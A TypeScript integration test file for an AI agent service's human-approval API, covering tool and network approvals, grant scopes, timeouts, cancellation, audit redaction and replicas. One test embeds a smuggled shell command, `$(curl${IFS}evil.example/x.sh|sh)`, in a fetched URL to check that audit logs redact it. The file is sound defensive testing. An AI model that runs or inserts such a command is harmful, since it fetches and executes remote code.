import { createHash, createHmac, hkdfSync } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { storedEvents } from './helpers/audit.js';
import { eventually, json, postJson, readEvents, startRun } from './helpers/agent.js';
import { startTestApp, type TestApp, type TestAppOptions } from './helpers/app.js';
import { createTestDatabase, postgresTestUrl, type TestDatabase } from './helpers/postgres.js';
import { SqliteStorage } from '../src/storage/sqlite/index.js';
import { startFakeOpenAI } from './fakes/openai-server.js';

/**
 * Approvals as a resource, through the real app on a real port and SQLite file: tool calls in
 * tools.require_approval and gateway requests refused by policy (interactive_approval: api) wait
 * for a decision made over the API; no decision, a restart or a cancel deny them.
 */
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/**
 * What `request_hash` must be: HMAC-SHA256 under the key derived (HKDF-SHA256, the documented label)
 * from the installation's secret, here the `approval-hash.key` file the app made in its home.
 */
function installationHash(t: TestApp, text: string): string {
  const secret = readFileSync(join(t.home, 'approval-hash.key'), 'utf8').trim();
  const key = Buffer.from(hkdfSync('sha256', Buffer.from(secret), Buffer.alloc(0), 'agentd approvals request_hash v1', 32));
  return createHmac('sha256', key).update(text).digest('hex');
}

const apps: TestApp[] = [];
afterEach(async () => {
  for (const app of apps.splice(0)) await app.close();
});

async function start(options: TestAppOptions = {}): Promise<TestApp> {
  const t = await startTestApp(options);
  apps.push(t);
  return t;
}

const calculatorApproval = (extra: TestAppOptions['config'] = {}) => start({ config: { tools: { require_approval: ['calculator'] }, ...extra } });

/** The one pending approval of the run, once it exists. */
async function pendingOf(t: TestApp, runId: string): Promise<any> {
  return eventually(async () => {
    const list = (await json(await t.request('/api/v1/approvals?state=pending'))).data.approvals as any[];
    return list.find((a) => a.run_id === runId);
  });
}

function decide(t: TestApp, id: string, decision: string, confirm: string): Promise<Response> {
  return postJson(t, `/api/v1/approvals/${id}`, { decision, confirm });
}

async function runStatus(t: TestApp, runId: string): Promise<string> {
  return (await json(await t.request(`/api/v1/runs/${runId}`))).data.status;
}

const auditOf = (t: TestApp, type: string) => storedEvents(t.app.storage as SqliteStorage, type);

describe('tool approvals through the API', () => {
  it('pauses the run (waiting_approval), refuses a wrong confirm, runs the call on allow_once and refuses a second decision', async () => {
    const t = await calculatorApproval();
    const run = await startRun(t, { message: 'what is 2+3' });
    const approval = await pendingOf(t, run.run_id);
    const exact = 'calculator {"expression":"2+3"}';
    expect(approval).toMatchObject({
      kind: 'tool', session_id: run.session_id, request: exact, request_hash: installationHash(t, exact), scope: 'calculator', state: 'pending', decision: null,
    });
    expect(await runStatus(t, run.run_id)).toBe('waiting_approval');

    const wrong = await decide(t, approval.id, 'allow_once', `deny:${approval.id}`);
    expect([wrong.status, (await json(wrong)).code]).toEqual([409, 'AGENTD_CONFIRM_MISMATCH']);
    const allowed = await decide(t, approval.id, 'allow_once', `approve:${approval.id}`);
    expect(allowed.status).toBe(200);
    expect((await json(allowed)).data).toMatchObject({ state: 'allowed', decision: 'allow_once', decided_by: 'api_key' });

    const { events } = await readEvents(t, run.run_id);
    expect(events.map((e) => e.event)).toEqual(['run.start', 'tool.request', 'approval.request', 'approval.result', 'tool.result', 'run.complete']);
    expect(JSON.parse(events[2]!.data)).toMatchObject({ run_id: run.run_id, approval_id: approval.id, kind: 'tool', request: exact });
    expect(JSON.parse(events[3]!.data)).toMatchObject({ approval_id: approval.id, decision: 'allow_once', decided_by: 'api_key' });
    expect(JSON.parse(events[4]!.data)).toMatchObject({ tool: 'calculator', is_error: false });
    expect(JSON.parse(events[5]!.data).response).toContain('5');

    const again = await decide(t, approval.id, 'deny', `deny:${approval.id}`);
    expect([again.status, (await json(again)).code]).toEqual([409, 'AGENTD_APPROVAL_DECIDED']);
    expect((await json(await t.request('/api/v1/approvals?state=pending'))).data.approvals).toEqual([]);
    expect(auditOf(t, 'approval.request').map((e) => e.detail)).toEqual([expect.objectContaining({ approval_id: approval.id, request: exact })]);
    expect(auditOf(t, 'approval.decision').map((e) => [e.actor, e.result, e.action])).toEqual([['api_key', 'allow', 'allow_once']]);
  });

  it('asks again for other arguments after allow_once; allow_session covers the tool for the rest of that session only', async () => {
    const t = await calculatorApproval();
    const first = await startRun(t, { message: 'what is 2+3' });
    const once = await pendingOf(t, first.run_id);
    await decide(t, once.id, 'allow_once', `approve:${once.id}`);
    await readEvents(t, first.run_id);

    const second = await startRun(t, { message: 'what is 6*7', session_id: first.session_id });
    const asked = await pendingOf(t, second.run_id);
    expect(asked.request).toBe('calculator {"expression":"6*7"}');
    expect(asked.request_hash).not.toBe(once.request_hash);
    await decide(t, asked.id, 'allow_session', `approve:${asked.id}`);
    expect(JSON.parse((await readEvents(t, second.run_id)).events.at(-1)!.data).response).toContain('42');

    // Same session, other arguments: remembered, no approval asked.
    const third = await startRun(t, { message: 'what is 9-4', session_id: first.session_id });
    expect((await readEvents(t, third.run_id)).events.map((e) => e.event)).toEqual(['run.start', 'tool.request', 'tool.result', 'run.complete']);
    // Another session is asked.
    const other = await startRun(t, { message: 'what is 9-4' });
    expect((await pendingOf(t, other.run_id)).scope).toBe('calculator');
    expect((await json(await t.request('/api/v1/approvals?state=all'))).data.approvals.map((a: any) => a.decision)).toEqual([null, 'allow_session', 'allow_once']);
  });

  it('feeds a denial back to the model without running the tool, audited with who denied', async () => {
    const t = await calculatorApproval();
    const run = await startRun(t, { message: 'what is 2+3' });
    const approval = await pendingOf(t, run.run_id);
    expect((await decide(t, approval.id, 'deny', `deny:${approval.id}`)).status).toBe(200);
    const { events } = await readEvents(t, run.run_id);
    expect(JSON.parse(events.find((e) => e.event === 'tool.result')!.data)).toMatchObject({ is_error: true });
    expect(auditOf(t, 'agent.tool_call')[0]).toMatchObject({ result: 'deny', action: 'calculator' });
    expect(auditOf(t, 'approval.decision').map((e) => [e.actor, e.result, e.action])).toEqual([['api_key', 'deny', 'deny']]);
  });

  it('denies when nobody decides within approval_timeout_seconds', async () => {
    const t = await calculatorApproval({ approval_timeout_seconds: 1 });
    const run = await startRun(t, { message: 'what is 2+3' });
    const approval = await pendingOf(t, run.run_id);
    const { events } = await readEvents(t, run.run_id);
    expect(JSON.parse(events.find((e) => e.event === 'approval.result')!.data)).toMatchObject({ decision: 'timeout', decided_by: 'system' });
    expect(JSON.parse(events.find((e) => e.event === 'tool.result')!.data)).toMatchObject({ is_error: true });
    const late = await decide(t, approval.id, 'allow_once', `approve:${approval.id}`);
    expect([late.status, (await json(late)).code]).toEqual([409, 'AGENTD_APPROVAL_DECIDED']);
    expect(auditOf(t, 'approval.decision').map((e) => [e.actor, e.action])).toEqual([['system', 'timeout']]);
  });

  it('withdraws the approvals of a cancelled run', async () => {
    const t = await calculatorApproval();
    const run = await startRun(t, { message: 'what is 2+3' });
    const approval = await pendingOf(t, run.run_id);
    expect((await t.request(`/api/v1/runs/${run.run_id}/cancel`, { method: 'POST' })).status).toBe(202);
    const closed = await eventually(async () => {
      const current = (await json(await t.request(`/api/v1/approvals/${approval.id}`))).data;
      return current.state !== 'pending' && current;
    });
    expect(closed).toMatchObject({ state: 'denied', decision: 'withdrawn', decided_by: 'system' });
    expect(await runStatus(t, run.run_id)).toBe('cancelled');
  });

  it('denies at the next start what a stopped service left waiting, its run ended as interrupted', async () => {
    const home = mkdtempSync(join(tmpdir(), 'agentd-approvals-'));
    try {
      const config = { tools: { require_approval: ['calculator'] } };
      const first = await startTestApp({ home, config });
      const run = await startRun(first, { message: 'what is 2+3' });
      const approval = await pendingOf(first, run.run_id);
      await first.close();
      // The waiting tool call was let go at once: shutdown did not wait out its grace period.
      expect(first.log.lines.join('\n')).not.toMatch(/did not stop within the grace period/);
      const second = await start({ home, config });
      const after = (await json(await second.request(`/api/v1/approvals/${approval.id}`))).data;
      expect(after).toMatchObject({ state: 'denied', decision: 'interrupted', decided_by: 'system' });
      expect((await json(await second.request(`/api/v1/runs/${run.run_id}`))).data).toMatchObject({ status: 'error', error: expect.stringMatching(/interrupted/) });
      expect(auditOf(second, 'approval.decision').map((e) => [e.actor, e.action])).toEqual([['system', 'interrupted']]);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  it('shows the operator the exact call (API and run stream), masks only the service key, and audits the redacted form', async () => {
    const t = await start({ config: { tools: { require_approval: ['web_fetch'] } } });
    const url = `http://127.0.0.1:9/x?password=pinpin12&c=$(curl\${IFS}evil.example/x.sh|sh)&k=${t.apiKey}`;
    const run = await startRun(t, { message: `fetch ${url}` });
    const approval = await pendingOf(t, run.run_id);
    const shown = `web_fetch {"url":"http://127.0.0.1:9/x?password=pinpin12&c=$(curl\${IFS}evil.example/x.sh|sh)&k=[MASKED: api.api_key]"}`;
    const exact = `web_fetch {"url":"${url}"}`;
    expect(approval).toMatchObject({ kind: 'tool', scope: 'web_fetch', request: shown, request_hash: installationHash(t, exact) });
    expect((await json(await t.request(`/api/v1/approvals/${approval.id}`))).data.request).toBe(shown);
    // A guess checked against SHA-256 of the request, as before, no longer finds the password.
    expect(approval.request_hash).not.toBe(sha256(exact));
    await decide(t, approval.id, 'deny', `deny:${approval.id}`);
    const { events } = await readEvents(t, run.run_id);
    expect(JSON.parse(events.find((e) => e.event === 'approval.request')!.data)).toMatchObject({ request: shown, request_hash: approval.request_hash });

    const audited = [...auditOf(t, 'approval.request'), ...auditOf(t, 'approval.decision')];
    expect(audited.map((e) => e.detail.request ?? null)).toEqual(['web_fetch {"url":"http://127.0.0.1:9/x?password=[REDACTED]&c=[REDACTED]&k=[REDACTED]"}', null]);
    const served = JSON.stringify((await json(await t.request('/api/v1/audit?limit=200'))).data.events);
    for (const text of [JSON.stringify(audited), served]) {
      expect(text).not.toContain('pinpin12');
      expect(text).not.toContain('evil.example');
      expect(text).not.toContain(t.apiKey);
    }
    expect(served).toContain(approval.request_hash);
  });

  it('answers bad input with clear envelopes', async () => {
    const t = await calculatorApproval();
    const unknown = await decide(t, 'apr_missing', 'deny', 'deny:apr_missing');
    expect([unknown.status, (await json(unknown)).code]).toEqual([404, 'AGENTD_APPROVAL_NOT_FOUND']);
    const badDecision = await postJson(t, '/api/v1/approvals/apr_x', { decision: 'maybe', confirm: 'approve:apr_x' });
    expect([badDecision.status, (await json(badDecision)).code]).toEqual([400, 'AGENTD_VALIDATION']);
    const noConfirm = await postJson(t, '/api/v1/approvals/apr_x', { decision: 'deny' });
    expect((await json(noConfirm)).error).toBe('field "confirm" is required');
    expect((await t.request('/api/v1/approvals?state=maybe')).status).toBe(400);
    expect((await t.request('/api/v1/approvals/apr_missing')).status).toBe(404);
  });
});

describe('network approvals through the API', () => {
  let upstream: Server;
  let port: number;
  const hits: string[] = [];
  beforeAll(async () => {
    upstream = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end('upstream says hello');
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    port = (upstream.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => upstream.close(() => resolve())));

  // The host is listed, but a REST rule refuses GET /private/**: a refusal an operator may overrule.
  const networkApproval = () => start({
    config: {
      network: {
        interactive_approval: 'api', allowed_hosts: [`127.0.0.1:${port}`],
        rest_policies: [{ host: '127.0.0.1', method: 'GET', path: '/private/**', action: 'deny' }],
      },
    },
  });

  it('holds a refused request until allowed; a REST deny rule is overridden once, never for the session', async () => {
    const t = await networkApproval();
    hits.length = 0;
    const run = await startRun(t, { message: `fetch http://127.0.0.1:${port}/private/a?token=s3cr3t` });
    const approval = await pendingOf(t, run.run_id);
    expect(approval).toMatchObject({
      kind: 'network', scope: `http://127.0.0.1:${port}`, grant_stage: 'rest', grant_rule: 'network.rest_policies[0]', session_grant_allowed: false,
      grant_run_id: null, request: `GET http://127.0.0.1:${port}/private/a?token=s3cr3t`,
      request_hash: installationHash(t, `GET http://127.0.0.1:${port}/private/a?token=s3cr3t`),
    });
    expect(hits).toEqual([]);
    const refused = await decide(t, approval.id, 'allow_session', `approve:${approval.id}`);
    const body = await json(refused);
    expect([refused.status, body.status, body.code]).toEqual([409, 'error', 'AGENTD_SESSION_GRANT_REFUSED']);
    expect(body.error).toContain('network.rest_policies[0]');
    expect((await json(await t.request(`/api/v1/approvals/${approval.id}`))).data.state).toBe('pending');
    await decide(t, approval.id, 'allow_once', `approve:${approval.id}`);
    const { events } = await readEvents(t, run.run_id);
    expect(JSON.parse(events.at(-1)!.data).response).toContain('upstream says hello');
    expect(hits).toEqual(['/private/a?token=s3cr3t']);
    expect(JSON.parse(events.find((e) => e.event === 'approval.request')!.data)).toMatchObject({ session_grant_allowed: false, grant_rule: 'network.rest_policies[0]' });

    // allow_once covered that request only: the next one on the same session is asked again.
    const again = await startRun(t, { message: `fetch http://127.0.0.1:${port}/private/b`, session_id: run.session_id });
    const second = await pendingOf(t, again.run_id);
    await decide(t, second.id, 'deny', `deny:${second.id}`);
    await readEvents(t, again.run_id);
    expect(hits).toEqual(['/private/a?token=s3cr3t']);
    expect(JSON.stringify(auditOf(t, 'approval.request'))).not.toContain('s3cr3t');
  });

  it('a denied request never reaches the host', async () => {
    const t = await networkApproval();
    hits.length = 0;
    const run = await startRun(t, { message: `fetch http://127.0.0.1:${port}/private/c` });
    const approval = await pendingOf(t, run.run_id);
    await decide(t, approval.id, 'deny', `deny:${approval.id}`);
    const { events } = await readEvents(t, run.run_id);
    expect(JSON.parse(events.find((e) => e.event === 'tool.result')!.data)).toMatchObject({ tool: 'web_fetch', is_error: true });
    expect(hits).toEqual([]);
  });
});

describe('what allow_session covers', () => {
  let upstreams: Server[];
  let ports: number[];
  const hits: string[] = [];
  beforeAll(async () => {
    upstreams = [createServer(), createServer()];
    ports = await Promise.all(upstreams.map((server) => new Promise<number>((resolve) => {
      server.on('request', (request, response) => {
        hits.push(`${(server.address() as AddressInfo).port}${request.url ?? ''}`);
        response.end('upstream says hello');
      });
      server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port));
    })));
  });
  afterAll(() => Promise.all(upstreams.map((server) => new Promise<void>((resolve) => server.close(() => resolve())))));

  // No host is allowed: b.localhost is put to the operator; loopback addresses are allowed by CIDR
  // (so an allowed request can go through), /admin/** is refused by an explicit REST rule.
  const grantsApp = (extra: TestAppOptions['config'] = {}) => start({
    config: {
      network: {
        interactive_approval: 'api', allowed_cidrs: ['127.0.0.0/8', '::1/128'],
        rest_policies: [{ host: 'b.localhost', method: '*', path: '/admin/**', action: 'deny' }],
      },
      ...extra,
    },
  });

  /** Starts a run and returns its pending approval, or null when the run ended without asking. */
  async function ask(t: TestApp, url: string, sessionId?: string): Promise<{ run: any; approval: any }> {
    const run = await startRun(t, { message: `fetch ${url}`, ...(sessionId ? { session_id: sessionId } : {}) });
    const approval = await eventually(async () => {
      const list = (await json(await t.request('/api/v1/approvals?state=pending'))).data.approvals as any[];
      const mine = list.find((a) => a.run_id === run.run_id);
      if (mine) return mine;
      const status = await runStatus(t, run.run_id);
      return status !== 'running' && status !== 'waiting_approval' ? null : undefined;
    });
    return { run, approval };
  }

  async function eventsOf(t: TestApp, runId: string): Promise<string[]> {
    return (await readEvents(t, runId)).events.map((e) => e.event ?? '');
  }

  it('covers the scheme, host and port refused at the host stage, and nothing else', async () => {
    const t = await grantsApp();
    const [a, b] = ports as [number, number];
    hits.length = 0;
    const first = await ask(t, `http://b.localhost:${a}/public`);
    expect(first.approval).toMatchObject({
      scope: `http://b.localhost:${a}`, grant_stage: 'host', grant_rule: null, session_grant_allowed: true, grant_run_id: null, grant_ended_at: null,
    });
    expect((await decide(t, first.approval.id, 'allow_session', `approve:${first.approval.id}`)).status).toBe(200);
    await readEvents(t, first.run.run_id);
    const session = first.run.session_id;

    // The same origin in other spellings (case, trailing root dot): covered, nothing asked.
    const same = await ask(t, `http://B.LocalHost.:${a}/other`, session);
    expect(same.approval).toBeNull();
    expect(await eventsOf(t, same.run.run_id)).not.toContain('approval.request');
    expect(hits).toEqual([`${a}/public`, `${a}/other`]);

    // A path an explicit REST deny rule covers: asked, allow_once only, whatever the host grant.
    const admin = await ask(t, `http://b.localhost:${a}/admin/delete-all`, session);
    expect(admin.approval).toMatchObject({ scope: `http://b.localhost:${a}`, grant_stage: 'rest', grant_rule: 'network.rest_policies[0]', session_grant_allowed: false });
    const refused = await decide(t, admin.approval.id, 'allow_session', `approve:${admin.approval.id}`);
    expect([refused.status, (await json(refused)).code]).toEqual([409, 'AGENTD_SESSION_GRANT_REFUSED']);
    await decide(t, admin.approval.id, 'deny', `deny:${admin.approval.id}`);
    await readEvents(t, admin.run.run_id);

    // Another port, the other scheme, an IDN look-alike: each asked on its own.
    const otherPort = await ask(t, `http://b.localhost:${b}/other`, session);
    expect(otherPort.approval).toMatchObject({ scope: `http://b.localhost:${b}`, grant_stage: 'host' });
    await decide(t, otherPort.approval.id, 'deny', `deny:${otherPort.approval.id}`);
    await readEvents(t, otherPort.run.run_id);
    const https = await ask(t, `https://b.localhost:${a}/public`, session);
    expect(https.approval).toMatchObject({ scope: `https://b.localhost:${a}`, grant_stage: 'host' });
    await decide(t, https.approval.id, 'deny', `deny:${https.approval.id}`);
    await readEvents(t, https.run.run_id);
    const lookalike = await ask(t, `http://b.loc\u0430lhost:${a}/public`, session);
    expect(lookalike.approval.scope).toMatch(new RegExp(`^http://b\\.xn--[a-z0-9-]+:${a}$`));
    await decide(t, lookalike.approval.id, 'deny', `deny:${lookalike.approval.id}`);
    await readEvents(t, lookalike.run.run_id);

    // Another session is asked.
    const stranger = await ask(t, `http://b.localhost:${a}/public`);
    expect(stranger.approval).toMatchObject({ scope: `http://b.localhost:${a}`, session_grant_allowed: true });
    await decide(t, stranger.approval.id, 'deny', `deny:${stranger.approval.id}`);
    await readEvents(t, stranger.run.run_id);
    expect(hits).toEqual([`${a}/public`, `${a}/other`]);

    // Deleting the session ends its grant (kept on record, no longer counted).
    expect((await t.request(`/api/v1/sessions/${session}`, { method: 'DELETE' })).status).toBe(200);
    expect((await json(await t.request(`/api/v1/approvals/${first.approval.id}`))).data).toMatchObject({ decision: 'allow_session', grant_ended_at: expect.any(String) });
  });

  it('on a channel session, a grant ends with the run that asked', async () => {
    const t = await grantsApp();
    const [a] = ports as [number];
    hits.length = 0;
    const fetchOn = async () => t.app.agent.startChannelRun({ sessionId: 'job:nightly', source: 'job', jobId: 'nightly', message: `fetch http://b.localhost:${a}/public` });
    const first = await fetchOn();
    const approval = await pendingOf(t, first.run_id);
    expect(approval).toMatchObject({ session_id: 'job:nightly', grant_run_id: first.run_id, session_grant_allowed: true });
    await decide(t, approval.id, 'allow_session', `approve:${approval.id}`);
    expect(await t.app.agent.whenRunFinished(first.run_id)).toMatchObject({ status: 'complete' });
    expect(hits).toEqual([`${a}/public`]);

    const next = await fetchOn();
    const asked = await pendingOf(t, next.run_id);
    expect(asked).toMatchObject({ session_id: 'job:nightly', scope: `http://b.localhost:${a}`, grant_run_id: next.run_id });
    await decide(t, asked.id, 'deny', `deny:${asked.id}`);
    await t.app.agent.whenRunFinished(next.run_id);
    expect(hits).toEqual([`${a}/public`]);
  });

  it('two decisions racing: exactly one wins', async () => {
    const t = await grantsApp();
    const { approval } = await ask(t, `http://b.localhost:${ports[0]}/public`);
    const answers = await Promise.all([
      decide(t, approval.id, 'allow_session', `approve:${approval.id}`),
      decide(t, approval.id, 'deny', `deny:${approval.id}`),
    ]);
    const outcomes = await Promise.all(answers.map(async (r) => [r.status, (await json(r)).code ?? 'ok']));
    expect(outcomes.map(([status]) => status).sort()).toEqual([200, 409]);
    expect(outcomes).toContainEqual([409, 'AGENTD_APPROVAL_DECIDED']);
    const stored = (await json(await t.request(`/api/v1/approvals/${approval.id}`))).data;
    expect(stored.decision).toBe(outcomes[0]![0] === 200 ? 'allow_session' : 'deny');
  });
});

describe('a request that cannot go through', () => {
  it('is never put to approval: a provider on an unlisted loopback address fails at once, and diagnostics say so', async () => {
    const server = await startFakeOpenAI();
    try {
      const t = await start({
        env: { OPENAI_API_KEY: 'sk-test-openai-key-000000000000' },
        config: {
          providers: { default: 'openai', openai: { api_key_env: 'OPENAI_API_KEY', model: 'fake-model', base_url: server.baseUrl } },
          network: { interactive_approval: 'api' },
        },
      });
      const run = await startRun(t, { message: 'hello' });
      const { events } = await readEvents(t, run.run_id);
      expect(events.map((e) => e.event)).toEqual(['run.start', 'run.error']);
      expect(JSON.parse(events[1]!.data).error).toMatch(/loopback address 127\.0\.0\.1 is not allowed/);
      expect((await json(await t.request('/api/v1/approvals?state=all'))).data.approvals).toEqual([]);
      expect(server.requests).toEqual([]);
      const diagnostics = (await json(await t.request('/api/v1/diagnostics'))).data;
      const openai = diagnostics.sections.find((section: any) => section.key === 'providers').checks.find((c: any) => c.name === 'openai');
      expect(openai).toMatchObject({ status: 'error', summary: expect.stringContaining('loopback address 127.0.0.1 is not allowed') });
    } finally {
      await server.close();
    }
  });
});

describe('a chat whose caller goes away', () => {
  it('withdraws the approvals it waits on', async () => {
    const t = await calculatorApproval();
    const caller = new AbortController();
    const chat = postJsonSignal(t, '/api/v1/chat', { message: 'what is 2+3' }, caller.signal).catch((error: unknown) => error);
    const approval = await eventually(async () => {
      const list = (await json(await t.request('/api/v1/approvals?state=pending'))).data.approvals as any[];
      return list.find((a) => a.run_id === null);
    });
    caller.abort();
    expect(await chat).toMatchObject({ name: 'AbortError' });
    const closed = await eventually(async () => {
      const current = (await json(await t.request(`/api/v1/approvals/${approval.id}`))).data;
      return current.state !== 'pending' && current;
    });
    expect(closed).toMatchObject({ state: 'denied', decision: 'withdrawn', decided_by: 'system' });
    expect((await json(await t.request('/api/v1/approvals?state=pending'))).data.approvals).toEqual([]);
    // The session is free again: the next chat is not refused as busy.
    const next = await postJson(t, '/api/v1/chat', { message: 'hello', session_id: approval.session_id });
    expect(next.status).toBe(200);
  });
});

function postJsonSignal(t: TestApp, path: string, body: unknown, signal: AbortSignal): Promise<Response> {
  return t.request(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body), signal });
}

describe.skipIf(postgresTestUrl === null)('approvals on PostgreSQL replicas', () => {
  let database: TestDatabase;
  beforeAll(async () => {
    database = await createTestDatabase();
  });
  afterAll(async () => {
    await database?.drop();
  });

  it('a decision taken on another replica reaches the run waiting on the first', async () => {
    const config = { storage: { backend: 'postgres' as const, postgres_url: database.url }, tools: { require_approval: ['calculator'] } };
    const [a, b] = await Promise.all([start({ config }), start({ config })]);
    const run = await startRun(a, { message: 'what is 2+3' });
    const approval = await pendingOf(b, run.run_id);
    expect(await runStatus(b, run.run_id)).toBe('waiting_approval');
    expect((await decide(b, approval.id, 'allow_once', `approve:${approval.id}`)).status).toBe(200);
    const { events } = await readEvents(a, run.run_id);
    expect(events.map((e) => e.event)).toEqual(['run.start', 'tool.request', 'approval.request', 'approval.result', 'tool.result', 'run.complete']);
    expect(JSON.parse(events.at(-1)!.data).response).toContain('5');
  });

  it('replicas sharing approval_hash_key digest the same request alike; without it each warns at start', async () => {
    const shared = 'replica-shared-approval-hash-key-0123456789';
    const config = {
      storage: { backend: 'postgres' as const, postgres_url: database.url }, tools: { require_approval: ['calculator'] }, approval_hash_key: shared,
    };
    const [a, b] = await Promise.all([start({ config }), start({ config })]);
    const onA = await pendingOf(a, (await startRun(a, { message: 'what is 2+3' })).run_id);
    const onB = await pendingOf(b, (await startRun(b, { message: 'what is 2+3' })).run_id);
    const key = Buffer.from(hkdfSync('sha256', Buffer.from(shared), Buffer.alloc(0), 'agentd approvals request_hash v1', 32));
    const expected = createHmac('sha256', key).update('calculator {"expression":"2+3"}').digest('hex');
    expect([onA.request_hash, onB.request_hash]).toEqual([expected, expected]);
    for (const t of [a, b]) expect(t.log.lines.join('\n')).not.toContain('approval_hash_key is not set');
    for (const approval of [onA, onB]) await decide(a, approval.id, 'deny', `deny:${approval.id}`);

    const alone = await start({ config: { ...config, approval_hash_key: '' } });
    expect(alone.log.lines.join('\n')).toContain('approval_hash_key is not set: this replica keys approvals\' request_hash with');
  });
});
